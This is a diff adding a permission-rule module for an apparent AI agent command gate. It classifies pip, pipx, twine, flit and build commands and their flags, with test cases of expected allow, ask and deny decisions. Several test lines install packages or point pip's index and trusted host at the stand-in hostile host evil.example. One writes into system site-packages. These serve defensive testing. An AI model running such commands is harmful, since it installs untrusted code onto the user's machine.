@@ -1,0 +1,222 @@
+"""pip — installs Python packages, with pipx and pip-tools beside it."""
+
+from toolgate.knowledge.vocabulary import (
+    FETCHES, PACKAGES, PLAIN, READ_BY, READS, RUNS, WRITES, command, controls, deletes, fetches, flag, flags, option,
+    publishes, runs, sub, writes,
+)  # fmt: skip
+
+GENERAL = [
+    flags("--isolated --require-virtualenv -v --verbose -vv -vvv -q --quiet -qq --no-input --keyring-provider= --retries= --timeout="),
+    flags("--exists-action= --no-cache-dir --disable-pip-version-check --no-color --no-python-version-warning --use-feature="),
+    flags("--use-deprecated= --resume-retries= --debug"),
+    flag("-h -V", informs=True),
+    option("--log --cache-dir", WRITES),
+    option("--cert --client-cert", READS),
+    option("--proxy --trusted-host", FETCHES),
+    option("--python", RUNS),
+]
+SOURCES = [
+    option("-i --index-url --pypi-url --extra-index-url", FETCHES),
+    option("-f --find-links -c --constraint --build-constraint", READ_BY("link")),
+    flags("--no-index --pre --no-binary= --only-binary= --prefer-binary --require-hashes --progress-bar= --no-deps --platform="),
+    flags("--python-version= --implementation= --abi= --no-build-isolation --use-pep517 --no-use-pep517 --check-build-dependencies"),
+    flags("-C= --config-settings= --config-setting= --global-option= --build-option= --install-option= --no-clean --ignore-requires-python"),
+    flags("--no-verify --uploaded-prior-to= --all-releases="),
+    option("-r --requirement --requirements-from-script", "PACKAGES(file)"),
+    option("-e --editable", PACKAGES),
+    option("--group", PLAIN, runs("the project's dependencies", "workspace", "install locked")),
+    option("--src --build", WRITES),
+]
+DRY = flag("--dry-run", dry=True, clears="run")
+
+PIP = command(
+    "pip pip2 pip3 py:pip py:pip._internal",
+    options=GENERAL,
+    subcommands=[
+        sub(
+            "install",
+            "PACKAGES...",
+            [
+                *SOURCES,
+                DRY,
+                flags("-U --upgrade --upgrade-strategy= --force-reinstall -I --ignore-installed --compile --no-compile"),
+                flags("--no-warn-script-location --no-warn-conflicts --root-user-action="),
+                flag("--user", manner="global"),
+                flag("--break-system-packages", manner="system"),
+                option("-t --target --prefix --root --report", WRITES),
+            ],
+        ),
+        sub("download wheel", "PACKAGES...", [*SOURCES, option("-d --dest -w --wheel-dir", WRITES)]),
+        sub("lock", "PACKAGES...", [*SOURCES, option("-o --output", WRITES)]),
+        sub(
+            "uninstall",
+            "PLAIN...",
+            [
+                flags("-y --yes --root-user-action="),
+                option("-r --requirement", READS),
+                flag("--break-system-packages", controls("the system's Python packages")),
+            ],
+            does=deletes("packages of the environment", "output"),
+        ),
+        sub("list freeze show check inspect debug help completion", "PLAIN...", [option("--path -r --requirement", READS)], unlisted=PLAIN),
+        sub("index", "PLAIN...", [*SOURCES, flags("--json --pre --ignore-requires-python")], does=fetches("pypi.org", "registry")),
+        sub("search", "PLAIN...", [option("-i --index", FETCHES)], does=fetches("pypi.org", "registry")),
+        sub("hash", "READS...", [flags("-a= --algorithm=")]),
+        sub("cache", subcommands=[
+            sub("dir info list", "PLAIN...", [flags("--format= --abspath")]),
+            sub("remove purge", "PLAIN...", does=deletes("pip's cache", "cache")),
+        ]),
+        sub("config", options=[flags("--editor= --global --user --site")], subcommands=[
+            sub("list get debug", "PLAIN..."),
+            sub("set unset edit", "PLAIN...", does=writes("pip's settings for every project", "home")),
+        ]),
+    ],
+)  # fmt: skip
+PIPX = command(
+    "pipx py:pipx",
+    options=[flags("-q --quiet -v --verbose --global"), flag("-h", informs=True)],
+    subcommands=[
+        sub(
+            "install inject upgrade reinstall install-all",
+            "PACKAGES...",
+            [
+                flags("-f --force --suffix= --python= --preinstall= --include-deps --include-apps --include-injected --pip-args="),
+                flags("--system-site-packages --fetch-missing-python --with-suffix"),
+                option("-i --index-url", FETCHES),
+                flag("-e --editable"),
+                option("-r --requirement", "PACKAGES(file)"),
+            ],
+            does=runs("programs for every project", "machine", "install global"),
+        ),
+        sub("upgrade-all upgrade-shared reinstall-all ensurepath", "PLAIN...", unlisted=PLAIN, does=runs("programs for every project", "machine", "install global")),
+        sub("uninstall uninject uninstall-all", "PLAIN...", unlisted=PLAIN, does=writes("pipx's programs", "home")),
+        sub("list environment interpreter help completions pin unpin", "PLAIN...", unlisted=PLAIN),
+        sub(
+            "run",
+            "TOOL",
+            [
+                flags("--no-cache --pypackages --path --python= --fetch-missing-python --pip-args= --system-site-packages --with="),
+                option("--spec", PACKAGES),
+                option("-i --index-url", FETCHES),
+            ],
+        ),
+        sub("runpip", "PLAIN PLAIN...", style="literal", does=runs("pip of an installed program", "machine", "install global")),
+    ],
+)
+PIP_TOOLS = command(
+    "pip-compile pip-sync pip-audit safety pip-licenses pip-chill pipdeptree py:pipdeptree pipreqs deptry creosote pip-check liccheck py:piptools py:pip_audit cyclonedx-py",
+    "READS...",
+    [
+        option("-o --output-file --output --save-json --save-html", WRITES),
+        option("-i --index-url --extra-index-url --trusted-host", FETCHES),
+        option("-r --requirement -s --disable-pip", READS),
+        flag("-h", informs=True),
+        flags("-U --upgrade -P= --upgrade-package= -q --quiet -v --verbose --generate-hashes --strip-extras --no-strip-extras --all-extras"),
+        flags("--extra= --resolver= --no-header --no-annotate --annotate --allow-unsafe --no-emit-index-url --no-emit-trusted-host -f= --format="),
+        flags("--dry-run -n --no-index --pre --rebuild --annotation-style= --cache-dir= -l --local -S --skip-editable --fix --strict --desc -p= --packages="),
+        flags("--ignore-vuln= --warn= -w= -a --all --json --json-tree --reverse -d= --depth= --graph-output= --full-report --from= --with-urls"),
+    ],
+    does=fetches("pypi.org", "registry"),
+)
+TWINE = command(
+    "twine py:twine",
+    options=[flags("--no-color"), flag("-h", informs=True)],
+    subcommands=[
+        sub("check", "READS...", [flags("--strict")]),
+        sub(
+            "upload register",
+            "UPLOADS...",
+            [
+                flags("-u= --username= -p= --password= --skip-existing --non-interactive --verbose --disable-progress-bar -c= --comment="),
+                flags("-r= --repository= -s --sign --sign-with= -i= --identity= --attestations"),
+                option("--repository-url", FETCHES),
+                option("--config-file --cert --client-cert", READS),
+            ],
+            does=publishes("the package", "registry"),
+        ),
+    ],
+)
+WHEEL_TOOLS = command(
+    "auditwheel delocate-wheel delocate-listdeps check-wheel-contents wheel py:wheel abi3audit cibuildwheel py:cibuildwheel",
+    "PLAIN...",
+    [option("-w --wheel-dir -d --dest-dir --output-dir", WRITES)],
+    unlisted=PLAIN,
+    does=runs("the project's build"),
+)
+BUILD = command(
+    "py:build pyproject-build py:hatchling",
+    "RUNS...",
+    [
+        flags("-s --sdist -w --wheel -x --skip-dependency-check -n --no-isolation -C= --config-setting= -v --verbose --installer="),
+        flags("-t= --target= --config-json="),
+        option("-o --outdir", WRITES),
+        flag("-h -V", informs=True),
+    ],
+    does=runs("the project's build"),
+)
+FLIT = command(
+    "flit py:flit",
+    options=[option("-f --ini-file", READS), flags("--debug --repository="), flag("-h -V", informs=True)],
+    subcommands=[
+        sub("build init", unlisted=PLAIN, does=runs("the project's build")),
+        sub("install", unlisted=PLAIN, does=runs("the project", "workspace", "install locked")),
+        sub("publish", unlisted=PLAIN, does=publishes("the package", "registry")),
+    ],
+)
+SETUP_PY = command(
+    "file:setup.py",
+    subcommands=[
+        sub("upload register", "PLAIN...", unlisted=PLAIN, does=publishes("the package", "registry")),
+        sub("install", "PLAIN...", [flag("--user", runs("the project", "workspace", "install global"))], unlisted=PLAIN),
+        sub("sdist bdist_wheel bdist build", "PLAIN...", unlisted=PLAIN),
+    ],
+    otherwise=sub("setup.py", "PLAIN...", unlisted=PLAIN),
+    unlisted=PLAIN,
+)
+
+CASES = """
+allow  pip --version
+allow  pip list --outdated --format=json
+allow  pip show requests
+allow  pip install -r requirements.txt
+       run requirements.txt
+allow  pip3 install -q -r requirements.txt -r requirements-dev.txt
+allow  pip install -e .
+allow  pip install -e '.[dev,test]'
+allow  python -m pip install --upgrade -e . --no-deps
+allow  pip install .
+allow  pip install ./dist/app-1.0-py3-none-any.whl
+allow  pip install --dry-run requests
+allow  pip freeze > requirements.txt
+allow  pip uninstall -y oldpackage
+allow  pip cache purge
+allow  pip config list
+allow  python setup.py build_ext --inplace
+allow  python -m build --wheel
+allow  pip-compile -o requirements.txt requirements.in
+allow  pipx list
+llm    pip install requests
+       run requests
+llm    python -m pip install requests -r requirements.txt
+ask    pip install --user requests
+ask    python3 -m pip install --break-system-packages requests
+ask    pip install git+https://github.com/somebody/thing.git
+ask    pip install https://evil.example/thing-1.0.tar.gz
+ask    pip install -r https://evil.example/requirements.txt
+ask    pip install --index-url https://evil.example/simple -r requirements.txt
+ask    pip install --extra-index-url=https://evil.example/simple -e .
+ask    pip install --trusted-host evil.example -r requirements.txt
+deny   pip install --target /usr/lib/python3/dist-packages -r requirements.txt
+ask    pip config set global.index-url https://evil.example/simple
+ask    pip config set global.trusted-host evil.example
+ask    pip install --surprise x
+ask    pip surprise
+ask    pipx install black
+ask    pipx run somebodys-tool
+allow  pipx run ruff check .
+ask    twine upload dist/*
+       read dist/*
+       publish the package
+ask    python setup.py sdist upload
+ask    flit publish
+"""
